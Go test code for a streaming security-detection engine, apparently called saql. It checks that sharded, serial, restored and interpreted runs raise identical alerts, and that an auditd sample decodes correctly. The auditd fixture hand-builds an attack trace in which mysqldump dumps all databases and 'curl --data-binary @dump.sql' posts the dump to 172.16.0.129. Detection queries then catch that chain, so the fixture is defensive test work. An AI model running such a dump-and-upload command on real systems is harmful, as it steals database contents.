	block := func(from, to int) []*Event { return events[from*perProc : to*perProc] }

	// The final query set: three placements (by-group, by-event, pinned)
	// plus two rules that only match late blocks of the stream, so
	// mid-stream Update and Register land before their matching events.
	final := map[string]string{
		"grouped-sum": `proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount)
           n := count(e) } group by p
alert ss.amt > 1000000
return p, ss.amt, ss.n`,
		"big-write": `proc p write ip i as e
alert e.amount > 1000000
return p, e.amount`,
		"global-volume": `proc p write ip i as e #time(1 h)
state ss { total := sum(e.amount) }
alert ss.total > 5000000
return ss.total`,
		"late-rule": `proc p["worker-0119.exe"] write ip i as e
alert e.amount > 0
return p, e.amount`,
		"late-reg": `proc p["worker-0118.exe"] write ip i as e
alert e.amount > 0
return p, e.amount`,
	}

	// Serial baseline: the final set over the whole stream.
	serial := New()
	for name, src := range final {
		if err := serial.AddQuery(name, src); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, serial.Process(ev)...)
	}
	want = append(want, serial.Flush()...)
	if len(want) == 0 {
		t.Fatal("serial baseline produced no alerts")
	}

	// Sharded engine: start from looser variants, then converge onto the
	// final set mid-stream through the handle API.
	replace := func(name, old, new string) string {
		src := final[name]
		if !strings.Contains(src, old) {
			t.Fatalf("%s: %q not in source", name, old)
		}
		return strings.Replace(src, old, new, 1)
	}
	eng := New(WithShards(4))
	handles := map[string]*QueryHandle{}
	register := func(name, src string) *QueryHandle {
		t.Helper()
		h, err := eng.Register(name, src)
		if err != nil {
			t.Fatalf("Register(%s): %v", name, err)
		}
		handles[name] = h
		return h
	}
	register("grouped-sum", replace("grouped-sum", "> 1000000", "> 5000000"))
	register("big-write", final["big-write"])
	register("global-volume", replace("global-volume", "> 5000000", "> 5000000000"))
	register("late-rule", strings.Replace(final["late-rule"], "worker-0119.exe", "worker-none.exe", 1))
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	sub := eng.Subscribe(4096, Block)
	var got []*Alert
	var consumer sync.WaitGroup
	consumer.Add(1)
	go func() {
		defer consumer.Done()
		for a := range sub.C {
			got = append(got, a)
		}
	}()
	submit := func(evs []*Event) {
		t.Helper()
		if err := eng.SubmitBatch(evs); err != nil {
			t.Fatal(err)
		}
	}

	// Blocks 1..6 carry no amounts above the big-write threshold (only
	// p%7==0 groups do), so pausing it across exactly that span skips
	// events it would never have matched.
	submit(block(0, 1))
	if err := handles["big-write"].Pause(); err != nil {
		t.Fatal(err)
	}
	submit(block(1, 7))
	if err := handles["big-write"].Resume(); err != nil {
		t.Fatal(err)
	}
	submit(block(7, 60))

	// Converge on the final set at the stream's midpoint: window-state
	// carry for the stateful queries (their 1h windows are still open, so
	// the final thresholds judge the complete sums), a plain swap for the
	// rule, and a late registration — both of which only match events in
	// blocks 118/119, still ahead of the stream.
	if err := handles["grouped-sum"].Update(final["grouped-sum"], CarryWindowState()); err != nil {
		t.Fatal(err)
	}
	if err := handles["global-volume"].Update(final["global-volume"], CarryWindowState()); err != nil {
		t.Fatal(err)
	}
	if err := handles["late-rule"].Update(final["late-rule"]); err != nil {
		t.Fatal(err)
	}
	register("late-reg", final["late-reg"])
	submit(block(60, procs))

	// The registry now equals the final set: Apply must be a no-op that
	// reuses every handle pointer-identically.
	set := NewQuerySet()
	names := make([]string, 0, len(final))
	for name := range final {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		if err := set.Add(name, final[name]); err != nil {
			t.Fatal(err)
		}
	}
	rep, err := eng.Apply(context.Background(), set)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Empty() || len(rep.Unchanged) != len(final) {
		t.Errorf("Apply of unchanged set: %s, want no changes and %d unchanged", rep, len(final))
	}
	for name, h := range handles {
		if cur, ok := eng.Query(name); !ok || cur != h {
			t.Errorf("Apply replaced handle %q", name)
		}
	}

	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	consumer.Wait()

	toSorted := func(alerts []*Alert) []string {
		out := make([]string, 0, len(alerts))
		for _, a := range alerts {
			out = append(out, alertIdentity(a))
		}
		sort.Strings(out)
		return out
	}
	wantIDs, gotIDs := toSorted(want), toSorted(got)
	if len(wantIDs) != len(gotIDs) {
		t.Errorf("alert count: lifecycle engine=%d, restarted serial=%d", len(gotIDs), len(wantIDs))
	}
	for i := 0; i < len(wantIDs) && i < len(gotIDs); i++ {
		if wantIDs[i] != gotIDs[i] {
			t.Fatalf("alert sets diverge at #%d:\n  lifecycle: %s\n  restart:   %s", i, gotIDs[i], wantIDs[i])
		}
	}
}

// TestLifecycleHammerMatchesSerial is the conformance hammer for the
// shared-evaluation router: one deterministic random script of Pause /
// Resume / Update operations (thresholds tweaked, carry and fresh-state
// swaps mixed) interleaved with event blocks, applied identically to a
// never-started serial engine and to sharded engines at 1, 2, and 8
// shards. Every configuration must emit exactly the same alerts: control
// operations ride the ingest queue in total order, so they land at the
// same stream point everywhere, and the router's pre-evaluated hit sets
// must stay consistent across every layout change the script provokes.
//
// Sharded engines receive each block in randomly sized sub-batches (from
// single events up to a few dozen), so the partitioned router's per-shard
// ring buffers sit in assorted partial-fill states whenever a control
// operation forces a flush. The script and the batch chopping derive from
// one seed, logged on every run; set SAQL_CONFORMANCE_SEED to reproduce.
func TestLifecycleHammerMatchesSerial(t *testing.T) {
	seed := int64(7)
	if s := os.Getenv("SAQL_CONFORMANCE_SEED"); s != "" {
		v, err := strconv.ParseInt(s, 10, 64)
		if err != nil {
			t.Fatalf("bad SAQL_CONFORMANCE_SEED %q: %v", s, err)
		}
		seed = v
	}
	t.Logf("lifecycle seed = %d (set SAQL_CONFORMANCE_SEED=%d to reproduce)", seed, seed)
	const procs, perProc, blocks = 96, 25, 24
	events := concurrencyWorkload(procs, perProc)

	names := []string{"grouped-sum", "big-write", "global-volume"}
	variant := func(name string, k int) string {
		switch name {
		case "grouped-sum":
			return fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount)
           n := count(e) } group by p
alert ss.amt > %d
return p, ss.amt, ss.n`, 1000000+k*1000)
		case "big-write":
			return fmt.Sprintf(`proc p write ip i as e
alert e.amount > %d
return p, e.amount`, 1000000+k*500)
		case "global-volume":
			return fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { total := sum(e.amount) }
alert ss.total > %d
return ss.total`, 5000000+k*10000)
		}
		t.Fatalf("unknown query %q", name)
		return ""
	}

	// Generate the op script once; every engine replays it verbatim.
	type step struct {
		op    string // submit | pause | resume | update
		block int
		name  string
		src   string
		carry bool
	}
	rng := rand.New(rand.NewSource(seed))
	var script []step
	paused := map[string]bool{}
	version := map[string]int{}
	for b := 0; b < blocks; b++ {
		script = append(script, step{op: "submit", block: b})
		for i := 0; i < 1+rng.Intn(2); i++ {
			name := names[rng.Intn(len(names))]
			switch rng.Intn(3) {
			case 0:
				if paused[name] {
					script = append(script, step{op: "resume", name: name})
					paused[name] = false
				} else {
					script = append(script, step{op: "pause", name: name})
					paused[name] = true
				}
			case 1:
				version[name]++
				// Carry only where the state layer allows it (stateful
				// queries); the rule query always swaps fresh.
				carry := name != "big-write" && rng.Intn(2) == 0
				script = append(script, step{op: "update", name: name, src: variant(name, version[name]), carry: carry})
			case 2:
				// No-op: vary the spacing between control operations.
			}
		}
	}

	run := func(t *testing.T, shards int, interpret bool) []string {
		t.Helper()
		// Sub-batch chopping is deterministic per configuration; it changes
		// envelope boundaries (and so ring-buffer fill at each flush), never
		// the event order, so alert equality must be unaffected.
		chop := rand.New(rand.NewSource(seed + int64(shards)*1000003))
		var eopts []Option
		if interpret {
			eopts = append(eopts, WithCompileOptions(CompileOptions{Interpret: true}))
		}
		var eng *Engine
		if shards == 0 {
			eng = New(eopts...)
		} else {
			eng = New(append(eopts, WithShards(shards), WithIngestQueue(64))...)
		}
		handles := map[string]*QueryHandle{}
		for _, name := range names {
			h, err := eng.Register(name, variant(name, 0))
			if err != nil {
				t.Fatalf("Register(%s): %v", name, err)
			}
			handles[name] = h
		}
		var got []*Alert
		var consumer sync.WaitGroup
		if shards > 0 {
			if err := eng.Start(context.Background()); err != nil {
				t.Fatal(err)
			}
			sub := eng.Subscribe(8192, Block)
			consumer.Add(1)
			go func() {
				defer consumer.Done()
				for a := range sub.C {
					got = append(got, a)
				}
			}()
		}
		blockSize := len(events) / blocks
		for _, st := range script {
			switch st.op {
			case "submit":
				from, to := st.block*blockSize, (st.block+1)*blockSize
				if st.block == blocks-1 {
					to = len(events)
				}
				if shards == 0 {
					for _, ev := range events[from:to] {
						got = append(got, eng.Process(ev)...)
					}
				} else {
					for lo := from; lo < to; {
						hi := lo + 1 + chop.Intn(48)
						if hi > to {
							hi = to
						}
						if err := eng.SubmitBatch(events[lo:hi]); err != nil {
							t.Fatal(err)
						}
						lo = hi
					}
				}
			case "pause":
				if err := handles[st.name].Pause(); err != nil {
					t.Fatalf("pause %s: %v", st.name, err)
				}
			case "resume":
				if err := handles[st.name].Resume(); err != nil {
					t.Fatalf("resume %s: %v", st.name, err)
				}
			case "update":
				var opts []UpdateOption
				if st.carry {
					opts = append(opts, CarryWindowState())
				}
				if err := handles[st.name].Update(st.src, opts...); err != nil {
					t.Fatalf("update %s: %v", st.name, err)
				}
			}
		}
		if shards == 0 {
			got = append(got, eng.Flush()...)
		} else {
			if err := eng.Close(); err != nil {
				t.Fatal(err)
			}
			consumer.Wait()
		}
		ids := make([]string, 0, len(got))
		for _, a := range got {
			ids = append(ids, alertIdentity(a))
		}
		sort.Strings(ids)
		return ids
	}

	want := run(t, 0, false)
	if len(want) == 0 {
		t.Fatal("serial hammer run produced no alerts")
	}
	for _, shards := range []int{1, 2, 8} {
		shards := shards
		t.Run(fmt.Sprintf("shards=%d", shards), func(t *testing.T) {
			got := run(t, shards, false)
			if len(got) != len(want) {
				t.Errorf("alert count: sharded=%d serial=%d", len(got), len(want))
			}
			for i := 0; i < len(want) && i < len(got); i++ {
				if got[i] != want[i] {
					t.Fatalf("alert sets diverge at #%d:\n  sharded: %s\n  serial:  %s", i, got[i], want[i])
				}
			}
		})
	}
	// Bytecode compilation must be detection-invariant: the same script with
	// compilation force-disabled (Interpret) must raise the identical alert
	// set, serially and through the sharded router. Combined with the
	// compiled shards=1/2/8 legs above, this proves compiled == interpreted
	// alert for alert at every shard count.
	for _, shards := range []int{0, 1, 8} {
		shards := shards
		t.Run(fmt.Sprintf("interpreted-shards=%d", shards), func(t *testing.T) {
			got := run(t, shards, true)
			if len(got) != len(want) {
				t.Errorf("alert count: interpreted=%d compiled=%d", len(got), len(want))
			}
			for i := 0; i < len(want) && i < len(got); i++ {
				if got[i] != want[i] {
					t.Fatalf("alert sets diverge at #%d:\n  interpreted: %s\n  compiled:    %s", i, got[i], want[i])
				}
			}
		})
	}
}

// TestSharedEvaluationPatternEvals pins the tentpole's acceptance
// criterion: with the router pre-evaluating pattern hits once per event,
// an 8-shard engine performs exactly the serial number of pattern
// evaluations (before the shared-evaluation stage it was ~8×), while still
// raising the same alerts.
func TestSharedEvaluationPatternEvals(t *testing.T) {
	events := concurrencyWorkload(60, 20)
	queries := make([]struct{ name, src string }, 16)
	for i := range queries {
		queries[i].name = fmt.Sprintf("v%d", i)
		queries[i].src = fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > %d
return p, ss.amt`, 1000000+i*1000)
	}
	register := func(eng *Engine) {
		t.Helper()
		for _, q := range queries {
			if err := eng.AddQuery(q.name, q.src); err != nil {
				t.Fatal(err)
			}
		}
	}

	serial := New()
	register(serial)
	for _, ev := range events {
		serial.Process(ev)
	}
	serial.Flush()
	ss := serial.Stats()

	sharded := New(WithShards(8), WithIngestQueue(64))
	register(sharded)
	if err := sharded.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := sharded.SubmitBatch(events); err != nil {
		t.Fatal(err)
	}
	if err := sharded.Close(); err != nil {
		t.Fatal(err)
	}
	hs := sharded.Stats()

	if hs.PatternEvals != ss.PatternEvals {
		t.Errorf("8-shard PatternEvals = %d, serial = %d (want identical: hits are pre-evaluated once)",
			hs.PatternEvals, ss.PatternEvals)
	}
	if float64(hs.PatternEvals) > 1.2*float64(ss.PatternEvals) {
		t.Errorf("acceptance: 8-shard PatternEvals %d exceeds 1.2x serial %d", hs.PatternEvals, ss.PatternEvals)
	}
	if hs.Alerts != ss.Alerts {
		t.Errorf("alerts: sharded=%d serial=%d", hs.Alerts, ss.Alerts)
	}
	if ss.Alerts == 0 {
		t.Error("workload produced no alerts")
	}
}

// TestSingleShardMatchesMultiShard pins the single-shard runtime to the same
// compiled programs and accounting as the partitioned router. A 1-shard
// engine skips the pre-evaluation plane and instead feeds whole batches
// through the scheduler's columnar ProcessBatch; it must reuse the queries
// compiled at Register time (no second compile, no interpreter divergence)
// and therefore report exactly the PatternEvals and alerts of an 8-shard
// engine — and of the serial baseline — over the same workload.
func TestSingleShardMatchesMultiShard(t *testing.T) {
	events := concurrencyWorkload(60, 20)
	queries := make([]struct{ name, src string }, 12)
	for i := range queries {
		queries[i].name = fmt.Sprintf("v%d", i)
		queries[i].src = fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > %d
return p, ss.amt`, 1000000+i*1000)
	}
	run := func(shards int) Stats {
		t.Helper()
		var eng *Engine
		if shards == 0 {
			eng = New()
		} else {
			eng = New(WithShards(shards), WithIngestQueue(64))
		}
		for _, q := range queries {
			if err := eng.AddQuery(q.name, q.src); err != nil {
				t.Fatal(err)
			}
		}
		if shards == 0 {
			for _, ev := range events {
				eng.Process(ev)
			}
			eng.Flush()
			return eng.Stats()
		}
		if err := eng.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		if err := eng.SubmitBatch(events); err != nil {
			t.Fatal(err)
		}
		if err := eng.Close(); err != nil {
			t.Fatal(err)
		}
		return eng.Stats()
	}

	serial := run(0)
	one := run(1)
	eight := run(8)

	if one.PatternEvals != eight.PatternEvals {
		t.Errorf("PatternEvals: 1-shard=%d 8-shard=%d (want identical)", one.PatternEvals, eight.PatternEvals)
	}
	if one.PatternEvals != serial.PatternEvals {
		t.Errorf("PatternEvals: 1-shard=%d serial=%d (want identical)", one.PatternEvals, serial.PatternEvals)
	}
	if one.Alerts != eight.Alerts {
		t.Errorf("Alerts: 1-shard=%d 8-shard=%d (want identical)", one.Alerts, eight.Alerts)
	}
	if one.Alerts != serial.Alerts {
		t.Errorf("Alerts: 1-shard=%d serial=%d (want identical)", one.Alerts, serial.Alerts)
	}
	if serial.Alerts == 0 {
		t.Error("workload produced no alerts")
	}
}

// TestCheckpointRestoreMatchesUninterrupted is the recovery conformance
// hammer: one randomized script of event blocks interleaved with Pause /
// Resume / Update operations runs against a durable engine that is
// checkpointed at a random block boundary and killed at a random later
// point; the engine is then restored from the snapshot (onto the same shard
// count) and the script re-driven from the checkpoint position. The
// pre-checkpoint alerts plus the restored engine's output must equal,
// alert for alert, a serial engine that ran the whole script uninterrupted
// — no lost, duplicated, or reordered detections — at 1, 2, and 8 shards.
//
// The script, checkpoint block, and kill block derive from one seed, logged
// on every run; set SAQL_CONFORMANCE_SEED to reproduce a failure.
func TestCheckpointRestoreMatchesUninterrupted(t *testing.T) {
	seed := time.Now().UnixNano()
	if s := os.Getenv("SAQL_CONFORMANCE_SEED"); s != "" {
		v, err := strconv.ParseInt(s, 10, 64)
		if err != nil {
			t.Fatalf("bad SAQL_CONFORMANCE_SEED %q: %v", s, err)
		}
		seed = v
	}
	t.Logf("conformance seed = %d (set SAQL_CONFORMANCE_SEED=%d to reproduce)", seed, seed)
	rng := rand.New(rand.NewSource(seed))

	const procs, perProc, blocks = 96, 25, 24
	events := concurrencyWorkload(procs, perProc)
	blockSize := len(events) / blocks

	// Six queries covering every stateful layer a checkpoint must carry:
	// open-window aggregators across all three placements, history rings,
	// invariant training, and window clustering. Update variants tune only
	// thresholds, so carry stays legal where the script requests it.
	names := []string{"grouped-sum", "big-write", "global-volume", "ts-history", "inv-dsts", "outlier-amt"}
	variant := func(name string, k int) string {
		switch name {
		case "grouped-sum":
			return fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount)
           n := count(e) } group by p
alert ss.amt > %d
return p, ss.amt, ss.n`, 1000000+k*1000)
		case "big-write":
			return fmt.Sprintf(`proc p write ip i as e
alert e.amount > %d
return p, e.amount`, 1000000+k*500)
		case "global-volume":
			return fmt.Sprintf(`proc p write ip i as e #time(1 h)
state ss { total := sum(e.amount) }
alert ss.total > %d
return ss.total`, 5000000+k*10000)
		case "ts-history":
			return fmt.Sprintf(`proc p write ip i as e #time(500 ms)
state[3] ss { amt := sum(e.amount) } group by p
alert ss[0].amt > ss[1].amt + %d && ss[0].amt > 100
return p, ss[0].amt, ss[1].amt`, 50+k*10)
		case "inv-dsts":
			// Grouped by agent id so the group recurs in every window:
			// training completes mid-stream and detection windows (with
			// their fresh destination sets) straddle the checkpoint.
			return fmt.Sprintf(`proc p write ip i as e #time(600 ms)
state ss { dsts := set(i.dstip) } group by e.agentid
invariant[2] {
  known := empty_set
  known = known union ss.dsts
}
alert |ss.dsts diff known| >= %d
return ss.dsts`, 1-k%2)
		case "outlier-amt":
			return fmt.Sprintf(`proc p write ip i as e #time(700 ms)
state ss { amt := sum(e.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(%d, 3)")
alert cluster.outlier && ss.amt > 1000
return i.dstip, ss.amt`, 100000+k*5000)
		}
		t.Fatalf("unknown query %q", name)
		return ""
	}

	// Generate the script once; the reference and every recovery run replay
	// it verbatim.
	type step struct {
		op    string // submit | pause | resume | update
		block int
		name  string
		src   string
		carry bool
	}
	var script []step
	cpStep, killStep := -1, -1
	cpBlock := blocks/3 + rng.Intn(blocks/3)
	killBlock := cpBlock + rng.Intn(blocks-cpBlock+1)
	cpEvents := cpBlock * blockSize
	paused := map[string]bool{}
	version := map[string]int{}
	for b := 0; b < blocks; b++ {
		if b == cpBlock {
			cpStep = len(script)
		}
		if b == killBlock {
			killStep = len(script)
		}
		script = append(script, step{op: "submit", block: b})
		for i := 0; i < 1+rng.Intn(2); i++ {
			name := names[rng.Intn(len(names))]
			switch rng.Intn(3) {
			case 0:
				if paused[name] {
					script = append(script, step{op: "resume", name: name})
					paused[name] = false
				} else {
					script = append(script, step{op: "pause", name: name})
					paused[name] = true
				}
			case 1:
				version[name]++
				carry := name != "big-write" && rng.Intn(2) == 0
				script = append(script, step{op: "update", name: name, src: variant(name, version[name]), carry: carry})
			case 2:
				// Spacing no-op.
			}
		}
	}
	if cpStep < 0 {
		cpStep = len(script)
	}
	if killStep < 0 {
		killStep = len(script)
	}
	t.Logf("checkpoint at block %d (event %d), kill at block %d, %d script steps", cpBlock, cpEvents, killBlock, len(script))

	// drive executes script[from:to] against eng (serial engines process
	// inline and their alerts are returned; running engines deliver through
	// their handler). Running engines receive each block in randomly sized
	// sub-batches — deterministic in (seed, from) — so the partitioned
	// router's ring buffers are partially drained when the checkpoint
	// barrier (and the kill) land; batch boundaries must never affect what a
	// snapshot captures or what recovery replays.
	drive := func(t *testing.T, eng *Engine, from, to int, serial bool) []*Alert {
		t.Helper()
		chop := rand.New(rand.NewSource(seed + int64(from)*7919))
		var out []*Alert
		for _, st := range script[from:to] {
			switch st.op {
			case "submit":
				lo, hi := st.block*blockSize, (st.block+1)*blockSize
				if st.block == blocks-1 {
					hi = len(events)
				}
				if serial {
					for _, ev := range events[lo:hi] {
						out = append(out, eng.Process(ev)...)
					}
				} else {
					for l := lo; l < hi; {
						h := l + 1 + chop.Intn(48)
						if h > hi {
							h = hi
						}
						if err := eng.SubmitBatch(events[l:h]); err != nil {
							t.Fatal(err)
						}
						l = h
					}
				}
			case "pause", "resume":
				h, ok := eng.Query(st.name)
				if !ok {
					t.Fatalf("%s: no handle for %q", st.op, st.name)
				}
				var err error
				if st.op == "pause" {
					err = h.Pause()
				} else {
					err = h.Resume()
				}
				if err != nil {
					t.Fatalf("%s %s: %v", st.op, st.name, err)
				}
			case "update":
				h, ok := eng.Query(st.name)
				if !ok {
					t.Fatalf("update: no handle for %q", st.name)
				}
				var opts []UpdateOption
				if st.carry {
					opts = append(opts, CarryWindowState())
				}
				if err := h.Update(st.src, opts...); err != nil {
					t.Fatalf("update %s: %v", st.name, err)
				}
			}
		}
		return out
	}
	register := func(t *testing.T, eng *Engine) {
		t.Helper()
		for _, name := range names {
			if _, err := eng.Register(name, variant(name, 0)); err != nil {
				t.Fatalf("Register(%s): %v", name, err)
			}
		}
	}

	// Uninterrupted serial reference.
	ref := New()
	register(t, ref)
	want := drive(t, ref, 0, len(script), true)
	want = append(want, ref.Flush()...)
	if len(want) == 0 {
		t.Fatal("reference run produced no alerts")
	}
	wantIDs := sortedIdentities(want)

	// The same uninterrupted script with bytecode compilation force-disabled
	// must produce the identical alert set: compilation may never change
	// detections, so every recovery leg below is simultaneously checked
	// against the interpreted semantics.
	refInterp := New(WithCompileOptions(CompileOptions{Interpret: true}))
	register(t, refInterp)
	interp := drive(t, refInterp, 0, len(script), true)
	interp = append(interp, refInterp.Flush()...)
	diffAlertSets(t, fmt.Sprintf("seed %d interpreted-vs-compiled", seed), wantIDs, sortedIdentities(interp))

	for _, shards := range []int{1, 2, 8} {
		shards := shards
		t.Run(fmt.Sprintf("shards=%d", shards), func(t *testing.T) {
			dir := t.TempDir()
			store, err := OpenStore(dir, StoreOptions{})
			if err != nil {
				t.Fatal(err)
			}
			var mu sync.Mutex
			var pre, discard, post []*Alert
			sink := &pre
			collect := func(a *Alert) {
				mu.Lock()
				*sink = append(*sink, a)
				mu.Unlock()
			}
			e1 := New(WithShards(shards), WithJournal(store), WithAlertHandler(collect))
			register(t, e1)
			if err := e1.Start(context.Background()); err != nil {
				t.Fatal(err)
			}
			drive(t, e1, 0, cpStep, false)
			info, err := e1.Checkpoint(dir)
			if err != nil {
				t.Fatal(err)
			}
			if info.Offset != int64(cpEvents) {
				t.Errorf("checkpoint offset = %d, want %d", info.Offset, cpEvents)
			}
			// Everything the handler saw so far is pre-barrier output; the
			// barrier guarantees it is complete and exact.
			mu.Lock()
			sink = &discard
			mu.Unlock()
			// The doomed run keeps going past the checkpoint; its output and
			// control operations die with it.
			drive(t, e1, cpStep, killStep, false)
			if err := e1.Close(); err != nil {
				t.Fatal(err)
			}

			// Restore on the same shard count and re-drive the script from
			// the checkpoint position (the recovery plane re-applies the
			// lost control operations at their recorded stream positions).
			e2, rinfo, err := Restore(dir,
				WithoutReplay(),
				WithRestoreEngineOptions(WithShards(shards), WithAlertHandler(func(a *Alert) {
					mu.Lock()
					post = append(post, a)
					mu.Unlock()
				})),
			)
			if err != nil {
				t.Fatal(err)
			}
			if rinfo.Offset != int64(cpEvents) {
				t.Errorf("restore offset = %d, want %d", rinfo.Offset, cpEvents)
			}
			drive(t, e2, cpStep, len(script), false)
			if err := e2.Close(); err != nil {
				t.Fatal(err)
			}

			mu.Lock()
			got := append(append([]*Alert{}, pre...), post...)
			mu.Unlock()
			diffAlertSets(t, fmt.Sprintf("seed %d shards %d", seed, shards), wantIDs, sortedIdentities(got))
		})
	}
}

// Every corpus query must also execute without runtime errors against the
// demo stream (smoke execution: no panics, no evaluation errors other than
// intentional ones).
func TestConformanceCorpusExecutes(t *testing.T) {
	events, _ := buildDemoStream(t, 5*time.Minute, 2*time.Minute)
	for _, c := range conformanceCorpus {
		c := c
		t.Run(c.name, func(t *testing.T) {
			q, err := CompileQuery(c.name, c.src)
			if err != nil {
				t.Fatal(err)
			}
			var evalErrs int
			report := func(error) { evalErrs++ }
			for _, ev := range events {
				q.Process(ev, report)
			}
			q.Flush(report)
			if evalErrs > 0 {
				t.Errorf("%d runtime evaluation errors", evalErrs)
			}
		})
	}
}
