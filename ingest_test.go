package saql

// End-to-end proof for the real-log ingestion layer: decoding the checked-in
// auditd sample and submitting it through a Source yields exactly the same
// events — and therefore alert-for-alert identical detections — as
// submitting the equivalent hand-constructed event stream.

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"saql/internal/event"
	"saql/internal/source"
)

const sampleLogPath = "examples/auditd-replay/sample.log"

// sampleBase is the audit timestamp base of sample.log.
var sampleBase = time.Unix(1582794000, 0).UTC()

// sampleEvents hand-constructs the event stream sample.log encodes: an
// interactive shell on db-1 dumping the database and shipping it to
// 172.16.0.129 (plus background noise). Every field mirrors what the auditd
// codec must produce.
func sampleEvents() []*event.Event {
	at := func(ms int) time.Time { return sampleBase.Add(time.Duration(ms) * time.Millisecond) }
	proc := func(exe string, pid int32) event.Entity {
		return event.Entity{Type: event.EntityProcess, ExeName: exe, PID: pid, User: "0"}
	}
	file := func(path string) event.Entity {
		return event.Entity{Type: event.EntityFile, Path: path}
	}
	attacker := event.Entity{Type: event.EntityNetConn, DstIP: "172.16.0.129", DstPort: 443, Protocol: "tcp"}
	withCmd := func(e event.Entity, cmd string) event.Entity { e.CmdLine = cmd; return e }

	return []*event.Event{
		{Time: at(100), AgentID: "db-1", Subject: proc("sshd", 900), Op: event.OpStart, Object: proc("sshd", 7001)},
		{Time: at(250), AgentID: "db-1", Subject: withCmd(proc("bash", 7001), "bash -i"), Op: event.OpExecute, Object: file("/usr/bin/bash")},
		{Time: at(1000), AgentID: "db-1", Subject: proc("bash", 7001), Op: event.OpStart, Object: proc("bash", 7002)},
		{Time: at(1200), AgentID: "db-1", Subject: withCmd(proc("mysqldump", 7002), "mysqldump --all-databases --result-file=dump.sql"), Op: event.OpExecute, Object: file("/usr/bin/mysqldump")},
		{Time: at(2000), AgentID: "db-1", Subject: proc("mysqldump", 7002), Op: event.OpWrite, Object: file("/var/tmp/dump.sql")},
		{Time: at(2200), AgentID: "db-1", Subject: proc("cron", 801), Op: event.OpRead, Object: file("/etc/crontab")},
		{Time: at(3000), AgentID: "db-1", Subject: proc("bash", 7001), Op: event.OpStart, Object: proc("bash", 7003)},
		{Time: at(3200), AgentID: "db-1", Subject: withCmd(proc("curl", 7003), "curl --data-binary @dump.sql https://172.16.0.129/up"), Op: event.OpExecute, Object: file("/usr/bin/curl")},
		{Time: at(3500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpRead, Object: file("/var/tmp/dump.sql")},
		{Time: at(4000), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpConnect, Object: attacker},
		{Time: at(4500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpWrite, Object: attacker, Amount: 524288},
		{Time: at(5000), AgentID: "db-1", Subject: proc("rm", 7004), Op: event.OpDelete, Object: file("/var/tmp/dump.sql")},
		{Time: at(5500), AgentID: "db-1", Subject: proc("curl", 7003), Op: event.OpEnd, Object: proc("curl", 7003)},
	}
}

// sampleQueries are the detection queries of examples/auditd-replay.
var sampleQueries = map[string]string{
	"exfil-chain": `
agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`,
	"exfil-volume": `
agentid = "db-1"
proc p write ip i1[dstip="172.16.0.129"] as evt #time(10 s)
state ss {
  total := sum(evt.amount)
}
group by p
alert ss.total > 100000
return p, ss.total`,
}

// eventKey renders every field of an event that detection can observe.
func eventKey(ev *event.Event) string {
	return fmt.Sprintf("%s|%s|%q|%q|%s", ev.String(), ev.Subject.User, ev.Subject.CmdLine, ev.Object.CmdLine, ev.AgentID)
}

// TestAuditdSampleDecodesToHandConstructedStream proves the codec layer
// reproduces the hand-built events field for field.
func TestAuditdSampleDecodesToHandConstructedStream(t *testing.T) {
	src, err := source.FromFile(sampleLogPath, source.Config{Format: "auditd", Agent: "db-1"})
	if err != nil {
		t.Fatal(err)
	}
	var got []*event.Event
	sink := submitFunc(func(evs []*event.Event) error {
		got = append(got, evs...)
		return nil
	})
	if err := src.Run(context.Background(), sink); err != nil {
		t.Fatal(err)
	}

	want := sampleEvents()
	if len(got) != len(want) {
		t.Fatalf("decoded %d events, want %d", len(got), len(want))
	}
	for i := range want {
		if eventKey(got[i]) != eventKey(want[i]) {
			t.Errorf("event %d:\n  got  %s\n  want %s", i, eventKey(got[i]), eventKey(want[i]))
		}
	}
	st := src.Stats()
	if st.DecodeErrors != 1 {
		t.Errorf("decode errors = %d, want 1 (the deliberately malformed line)", st.DecodeErrors)
	}
}

type submitFunc func([]*event.Event) error

func (f submitFunc) SubmitBatch(evs []*event.Event) error { return f(evs) }

// TestAuditdSampleAlertEquivalence proves the full pipeline: sample.log
// through Source → SubmitBatch raises alert-for-alert identical detections
// to the hand-constructed stream.
func TestAuditdSampleAlertEquivalence(t *testing.T) {
	runQueries := func(feed func(eng *Engine) error) []string {
		t.Helper()
		var alerts []string
		eng := New(WithShards(4), WithAlertHandler(func(a *Alert) { alerts = append(alerts, a.String()) }))
		for name, src := range sampleQueries {
			if err := eng.AddQuery(name, src); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
		if err := eng.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		if err := feed(eng); err != nil {
			t.Fatal(err)
		}
		if err := eng.Close(); err != nil {
			t.Fatal(err)
		}
		sort.Strings(alerts)
		return alerts
	}

	fromLog := runQueries(func(eng *Engine) error {
		src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
		if err != nil {
			return err
		}
		return src.Run(context.Background(), eng)
	})
	fromHand := runQueries(func(eng *Engine) error {
		return eng.SubmitBatch(sampleEvents())
	})

	if len(fromLog) == 0 {
		t.Fatal("no alerts from the decoded sample")
	}
	if strings.Join(fromLog, "\n") != strings.Join(fromHand, "\n") {
